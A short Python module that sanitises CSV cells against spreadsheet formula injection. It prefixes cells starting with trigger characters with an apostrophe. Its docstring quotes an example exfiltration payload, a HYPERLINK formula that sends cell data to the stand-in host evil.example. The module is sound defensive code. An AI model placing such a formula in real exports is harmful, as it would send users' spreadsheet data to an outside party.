"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV/formula injection).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, tab or carriage return before one) as a formula: a logged question
``=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")`` would become a live link that sends
the sheet's data away. Such a cell gets a leading apostrophe, which spreadsheets show as text.
Used by ``assistant questions export`` and by every CSV download of the API.
"""

from __future__ import annotations

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """``value`` as CSV cell text; a cell a spreadsheet would read as a formula is prefixed with ``'``."""
    text = "" if value is None else str(value)
    if text.startswith(_TRIGGERS) or text.lstrip(" \n").startswith(_TRIGGERS):
        return "'" + text
    return text
